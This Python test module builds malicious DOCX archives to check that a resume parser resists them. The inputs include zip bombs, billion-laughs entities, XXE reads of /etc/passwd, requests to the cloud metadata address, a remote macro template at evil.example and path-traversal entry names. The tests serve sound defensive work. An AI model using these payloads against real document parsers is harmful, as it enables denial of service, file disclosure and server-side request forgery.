"""DOCX files, and archives that pass for them."""

import io
import struct
import zipfile
import zlib

from resumes.reading.verdict import Problem
from tests.resumes.documents import W, document, docx, paragraph, table
from tests.resumes.hostile import READ, nasty

DANA = "Dana Novak"
HELLO = paragraph("Dana Novak, engineer")
BODY = "word/document.xml"


def archive(*entries: tuple[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", method) as out:
        for name, content in entries:
            out.writestr(zipfile.ZipInfo(name), content, method)
    return kept.getvalue()


@nasty(Problem.BOMB)
def docx_of_a_packed_gigabyte() -> bytes:
    """A document that unpacks to 200 times its size."""
    return docx(paragraph("A" * 30_000_000))


@nasty(Problem.BOMB)
def docx_with_a_packed_picture() -> bytes:
    """The text is harmless; a picture beside it unpacks to 60 MB."""
    return docx(HELLO, word__media__image1_dot_png=b"\0" * 60_000_000)


@nasty(Problem.BOMB)
def docx_of_a_hundred_thousand_entries() -> bytes:
    """100,000 empty files in one archive, made by hand: the list at its end is all that is long."""
    first = docx(HELLO)
    places = _end_of(first)
    row = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 0, 0, 0, 0, 0, 0, 8, 0, 0, 0, 0, 0, 0)
    rows = b"".join(row + b"f%07d" % at for at in range(100_000))
    kept = first[: places.start] + first[places.start : places.end] + rows
    sizes = len(kept) - places.start
    wide = struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, 100_003, 100_003, sizes, places.start)
    return kept + wide + struct.pack("<4sIQI", b"PK\6\7", 0, len(kept), 1) + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, *[0xFFFF] * 2, *[0xFFFFFFFF] * 2, 0)  # fmt: skip


@nasty(Problem.BOMB, Problem.DAMAGED)
def docx_that_lies_about_sizes() -> bytes:
    """The archive says that its document has ten bytes; it unpacks to 30 million."""
    xml = document(paragraph("A" * 30_000_000)).encode()
    return _with_size(docx(xml=xml.decode()), BODY, size=10)


@nasty(Problem.BOMB, Problem.DAMAGED, Problem.TOO_MUCH_MEMORY)
def docx_that_claims_four_gigabytes() -> bytes:
    """The archive says that its document has 4 GB; it has 300 bytes."""
    return _with_size(docx(HELLO), BODY, size=0xFFFFFFF0)


@nasty(Problem.DAMAGED)
def docx_with_another_name_inside() -> bytes:
    """The list says word/document.xml where the entry itself says something else."""
    return docx(HELLO).replace(BODY.encode(), b"word/nothing!.xml", 1)


@nasty(READ, Problem.DAMAGED, Problem.BOMB)
def docx_whose_entries_overlap() -> bytes:
    """Fifty entries of the list are one and the same stretch of the file, as in the bombs without recursion."""
    first = docx(HELLO)
    places = _end_of(first)
    row = first[places.start : places.end].split(b"PK\1\2")[2]
    rows = b"".join(b"PK\1\2" + row.replace(BODY.encode(), b"word/docu%04d.xml" % at) for at in range(50))
    kept = first[: places.end] + rows
    return kept + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 52, 52, len(kept) - places.start, places.start, 0)


@nasty(READ, holds=DANA)
def docx_with_an_archive_inside() -> bytes:
    """An archive in the archive that is a bomb. It is not opened."""
    return docx(HELLO, word__embeddings__a_dot_zip=zlib.compress(docx(paragraph("A" * 1_000_000))))


@nasty(Problem.DAMAGED)
def docx_of_a_billion_laughs() -> bytes:
    """Entities that stand for ten of the one before, nine times."""
    entities = "".join(f'<!ENTITY a{at} "{f"&a{at - 1};" * 10}">' for at in range(1, 10))
    return docx(xml=f'<!DOCTYPE x [<!ENTITY a0 "ha">{entities}]>' + document(paragraph("&a9;")).split("?>")[1])


@nasty(Problem.DAMAGED)
def docx_of_a_billion_laughs_in_utf_16() -> bytes:
    """The same in another encoding, for who looks for the word DOCTYPE in bytes."""
    xml = '<!DOCTYPE x [<!ENTITY a "ha">]>' + document(paragraph("&a;")).split("?>")[1]
    return archive((BODY, ('<?xml version="1.0" encoding="UTF-16"?>' + xml).encode("utf-16")))


@nasty(Problem.DAMAGED)
def docx_of_one_long_entity() -> bytes:
    """An entity of 50,000 letters that is used 5,000 times."""
    return docx(xml=f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>' + document(paragraph("&a;" * 5_000)).split("?>")[1])


@nasty(Problem.DAMAGED, lacks="root:")
def docx_that_wants_a_file_of_ours() -> bytes:
    """An external entity: file:///etc/passwd."""
    return docx(xml='<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>' + document(paragraph("&f;")).split("?>")[1])


@nasty(Problem.DAMAGED)
def docx_that_wants_a_page_of_the_network() -> bytes:
    """An external document type at an address inside the network."""
    return docx(xml='<!DOCTYPE x SYSTEM "http://169.254.169.254/latest/meta-data/">' + document(HELLO).split("?>")[1])


@nasty(Problem.DAMAGED)
def docx_with_a_parameter_entity() -> bytes:
    """Entities that are made by entities."""
    xml = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:1/x.dtd"> %p;]>' + document(HELLO).split("?>")[1]
    return docx(xml=xml)


@nasty(Problem.DAMAGED)
def docx_whose_doctype_lies_between_two_pieces() -> bytes:
    """The word DOCTYPE lies over the border between two pieces of 64 KB."""
    head = '<?xml version="1.0"?>'
    filler = " " * (64 * 1024 - len(head) - 4)
    return archive(
        (BODY, head + filler + '<!DOCTYPE x [<!ENTITY a "ha">]>' + document(paragraph("&a;")).split("?>")[1]), method=zipfile.ZIP_STORED
    )


@nasty(Problem.BOMB)
def docx_of_five_thousand_open_paragraphs() -> bytes:
    """Paragraphs in paragraphs in paragraphs."""
    return docx(xml=document("<w:p>" * 5_000))


@nasty(Problem.BOMB)
def docx_of_tables_in_tables() -> bytes:
    """A thousand tables, each in a cell of the other."""
    return docx("<w:tbl><w:tr><w:tc>" * 1_000 + HELLO + "</w:tc></w:tr></w:tbl>" * 1_000)


@nasty(READ, Problem.BOMB, Problem.TOO_MANY_PAGES, Problem.NO_TEXT)
def docx_of_100_000_empty_paragraphs() -> bytes:
    """100,000 paragraphs with nothing in them. They pack so well that they are stored loose."""
    return archive((BODY, document("<w:p/>" * 100_000 + HELLO)), method=zipfile.ZIP_STORED)


@nasty(READ, Problem.BOMB, Problem.TOO_MUCH_MEMORY, Problem.DAMAGED)
def docx_of_half_a_million_attributes() -> bytes:
    """One element with 400,000 attributes."""
    attributes = " ".join(f'a{at}=""' for at in range(400_000))
    return archive((BODY, document(f"<w:p {attributes}/>" + HELLO)), method=zipfile.ZIP_STORED)


@nasty(READ, Problem.DAMAGED, Problem.BOMB)
def docx_with_an_element_of_five_megabytes() -> bytes:
    """An element whose name has five million letters."""
    name = "a" * 5_000_000
    return archive((BODY, document(f"<{name}>{HELLO}</{name}>")), method=zipfile.ZIP_STORED)


@nasty(READ, Problem.TOO_MANY_PAGES, Problem.BOMB)
def docx_with_a_row_of_a_hundred_thousand_cells() -> bytes:
    """A table of one row and 100,000 cells."""
    return archive((BODY, document(table(("x",) * 100_000))), method=zipfile.ZIP_STORED)


@nasty(Problem.TOO_MANY_PAGES)
def docx_of_a_whole_library() -> bytes:
    """Nine megabytes of honest text."""
    return archive((BODY, document(paragraph("All work and no play makes Dana dull. ") * 100_000)), method=zipfile.ZIP_STORED)


@nasty(Problem.PROGRAM_INSIDE)
def docx_with_macros() -> bytes:
    """It holds a program."""
    return docx(HELLO, word__vbaProject_dot_bin=b"x")


@nasty(Problem.PROGRAM_INSIDE)
def docx_with_macros_under_another_name() -> bytes:
    """It holds a program that is called a picture; only the list of types says what it is."""
    types = '<Types><Override PartName="/word/picture.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    return archive(("[Content_Types].xml", types), ("word/picture.bin", b"x"), (BODY, document(HELLO)))


@nasty(READ, holds=DANA)
def docx_with_a_template_on_the_network() -> bytes:
    """Word would fetch its template, which may hold a program, from the network. We fetch nothing."""
    relations = (
        '<Relationships><Relationship Type="attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return docx(HELLO, word___rels__settings_dot_xml_dot_rels=relations)


@nasty(Problem.ENCRYPTED)
def docx_with_locked_entries() -> bytes:
    """Its entries are marked as encrypted."""
    content = bytearray(docx(HELLO))
    for mark, place in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + place] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


@nasty(Problem.DAMAGED)
def docx_with_a_wrong_checksum() -> bytes:
    """One byte of the text is not what the checksum says."""
    return archive((BODY, document(HELLO)), method=zipfile.ZIP_STORED).replace(b"Novak", b"Movak", 1)


@nasty(Problem.UNKNOWN_FORMAT)
def docx_with_another_beginning() -> bytes:
    """Its first four bytes are not those of an archive, though a reader that looks at the end finds one."""
    return b"\0\0\0\0" + docx(HELLO)[4:]


@nasty(Problem.DAMAGED)
def docx_without_its_end() -> bytes:
    """The list of entries is missing."""
    content = docx(HELLO)
    return content[: _end_of(content).start]


@nasty(Problem.DAMAGED)
def docx_packed_in_an_unknown_way() -> bytes:
    """Its entries are packed by method 99."""
    return docx(HELLO).replace(b"\x08\x00", b"\x63\x00")


@nasty(Problem.TOO_MUCH_MEMORY, Problem.DAMAGED, Problem.BOMB)
def docx_packed_with_a_dictionary_of_four_gigabytes() -> bytes:
    """Packed by LZMA, and whoever unpacks it is to set 4 GB aside."""
    content = archive((BODY, document(HELLO)), method=zipfile.ZIP_LZMA)
    at = content.index(b"\x5d\x00\x00")
    return content[: at + 1] + b"\xff\xff\xff\xff" + content[at + 5 :]


@nasty(Problem.UNKNOWN_FORMAT)
def spreadsheet() -> bytes:
    """A spreadsheet, whatever its name says."""
    return archive(("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<workbook/>"))


@nasty(Problem.UNKNOWN_FORMAT)
def archive_of_nothing() -> bytes:
    """An archive without entries."""
    return archive()


@nasty(Problem.DAMAGED, Problem.UNKNOWN_FORMAT, Problem.NO_TEXT)
def docx_whose_document_is_a_folder() -> bytes:
    """Its document is a folder."""
    return archive((BODY + "/", b""))


@nasty(Problem.DAMAGED, Problem.NO_TEXT)
def docx_whose_document_is_empty() -> bytes:
    """Its document has no byte."""
    return archive((BODY, b""))


@nasty(Problem.DAMAGED)
def docx_whose_document_is_noise() -> bytes:
    """Its document is no XML."""
    return archive((BODY, bytes(range(256)) * 20))


@nasty(Problem.DAMAGED)
def docx_that_breaks_off() -> bytes:
    """Its document ends in the middle of a sentence."""
    return docx(xml=document(HELLO)[:150])


@nasty(READ, Problem.DAMAGED)
def docx_with_two_documents() -> bytes:
    """Two entries of the same name: to who takes the first it is another document than to who takes the last."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as out:
        out.writestr(BODY, document(HELLO))
        out.writestr("word/document.xmm", document(paragraph("Somebody else")))
    return kept.getvalue().replace(b"word/document.xmm", BODY.encode())


@nasty(READ, holds=DANA)
def docx_with_names_that_climb() -> bytes:
    """Entries called ../../etc/cron.d/x, /etc/passwd, with a NUL, with a mark that turns letters round, and 255 letters long."""
    names = ("../../../etc/cron.d/x", "/etc/passwd", "a\0b", "cv\u202efdp.exe", "n" * 255, "C:\\Windows\\x")
    return archive(*[(name, b"x") for name in names], (BODY, document(HELLO)))


@nasty(READ, holds=DANA)
def docx_with_remarks_and_instructions() -> bytes:
    """XML remarks, CDATA and instructions to programs between the words."""
    return docx("<?run rm?><!-- no --><w:p><w:r><w:t><![CDATA[Dana]]> <!-- x -->Novak</w:t></w:r></w:p>")


@nasty(READ, Problem.DAMAGED)
def docx_in_utf_16() -> bytes:
    """An honest document in an encoding that Word never writes."""
    return archive((BODY, document(HELLO).replace("UTF-8", "UTF-16").encode("utf-16")))


@nasty(READ, holds="李小龙")
def docx_in_many_scripts() -> bytes:
    """Chinese, Arabic, Cyrillic, and a family in one emoji."""
    return docx(paragraph("李小龙 软件工程师") + paragraph("مهندسة برمجيات") + paragraph("Инженер 👩‍👩‍👧‍👦"))


@nasty(READ, holds=DANA)
def docx_in_the_strict_kind() -> bytes:
    """Saved as “Strict Open XML”, in which every element has another namespace."""
    return docx(xml=document(HELLO).replace(W, "http://purl.oclc.org/ooxml/wordprocessingml/main"))


@nasty(READ, holds=DANA, lacks="root:")
def docx_that_includes_another_file() -> bytes:
    """XInclude and altChunk ask for /etc/passwd to be put in."""
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    return docx(HELLO + include + '<w:altChunk id="file:///etc/passwd"/>')


@nasty(READ, lacks="secret plan")
def docx_with_deleted_text() -> bytes:
    """What was deleted under “track changes” is still in the file. It is not read."""
    return docx(HELLO + "<w:p><w:del><w:r><w:delText>secret plan</w:delText></w:r></w:del></w:p>")


class _Places:
    def __init__(self, start: int, end: int) -> None:
        self.start, self.end = start, end


def _end_of(content: bytes) -> _Places:
    """Where the list of entries begins and ends."""
    end = content.rindex(b"PK\5\6")
    return _Places(struct.unpack("<I", content[end + 16 : end + 20])[0], end)


def _with_size(content: bytes, name: str, size: int) -> bytes:
    changed = bytearray(content)
    for mark, place, named in ((b"PK\3\4", 22, 30), (b"PK\1\2", 24, 46)):
        at = content.find(mark)
        while at >= 0:
            if content[at + named :].startswith(name.encode()):
                changed[at + place : at + place + 4] = struct.pack("<I", size)
            at = content.find(mark, at + 4)
    return bytes(changed)
